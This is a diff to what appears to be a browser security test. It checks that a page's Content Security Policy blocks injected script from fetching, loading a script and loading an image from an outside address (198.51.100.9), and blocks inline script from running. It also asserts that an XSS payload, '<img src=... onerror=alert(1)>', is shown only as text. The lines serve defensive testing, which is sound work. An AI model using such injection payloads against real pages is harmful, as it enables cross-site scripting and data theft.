@@ -157,8 +157,23 @@ def test_markup_in_the_link_runs_nothing_and_loads_nothing(server):
         images = b.evaluate("document.images.length")
         events = b.page_events()
         assert only_own_origin(b, url) == []
+        # Even script running inside the page (as an injection would) cannot reach elsewhere:
+        # the CSP refuses the connection, the foreign script, the image and any inline script.
+        tried = b.evaluate("""(async () => {
+            const seen = [];
+            document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
+            let fetched = 'sent';
+            try { await fetch('http://198.51.100.9/x'); } catch (e) { fetched = 'refused'; }
+            const s = document.createElement('script'); s.src = 'http://198.51.100.9/s.js'; document.head.append(s);
+            const i = document.createElement('img'); i.src = 'http://198.51.100.9/i.png'; document.body.append(i);
+            const inline = document.createElement('script'); inline.textContent = 'window.pwned = 1'; document.head.append(inline);
+            await new Promise(r => setTimeout(r, 300));
+            return {fetched, seen: [...new Set(seen)].sort(), pwned: !!window.pwned};
+        })()""")
     assert "<img src=http://198.51.100.9/x onerror=alert(1)>" in text  # shown as text
     assert images == 0 and events.dialogs == []
+    assert tried == {"fetched": "refused", "pwned": False,
+                     "seen": ["connect-src", "img-src", "script-src-elem"]}
 
 
 def test_firefox_measures_its_fake_camera_and_a_known_pulseaudio_tone(server, pulse):  # noqa: F811
